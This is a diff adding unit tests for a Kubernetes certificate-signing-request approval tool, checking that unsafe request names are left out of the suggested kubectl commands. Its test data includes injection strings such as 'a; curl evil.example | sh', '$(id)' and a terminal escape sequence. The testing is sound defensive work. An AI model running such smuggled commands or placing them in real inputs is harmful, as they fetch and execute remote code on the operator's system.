@@ -310,6 +310,29 @@ describe('a look-alike', () => {
   })
 })
 
+describe('the name of a request', () => {
+  const names = ['a; curl evil.example | sh', '$(id)', 'a\u001b[2J', 'x'.repeat(254)]
+
+  it.each(names)('that is not one word of a shell is not shown: %j', async (name) => {
+    const denied = { conditions: [{ type: 'Denied' }] }
+    const { refused } = await decideApprovals([named(name, 0, denied)], webhook)
+    expect(refused?.action).toMatch(/^See why with kubectl describe csr unnamed, then run kubectl delete csr unnamed,/)
+    expect(JSON.stringify(refused)).not.toContain(name)
+
+    const others = await decideApprovals([{ ...named(name), spec: { ...named(name).spec, usages: [] } }], webhook)
+    expect(others.leftPending).toMatchObject([{ name: 'unnamed' }])
+  })
+
+  it.each(['csr-8xk2p', 'node-csr-Xu_7Q', 'system:a-1'])('is shown otherwise: %s', async (name) => {
+    expect((await decideApprovals([named(name, 0, approved)], webhook)).unsigned).toEqual([name])
+  })
+
+  it('does not keep a request from being deleted when it is left over', () => {
+    const left = leftOverRequests([named('a b', 0, issued)], { namespace: requestNamespace, mode: 'csr' })
+    expect(left).toEqual(['a b'])
+  })
+})
+
 describe('how many', () => {
   it('one for each replica, the newest first, and no more until those are signed', async () => {
     const requests = [named('csr-1', 1), named('csr-3', 3), named('csr-2', 2)]
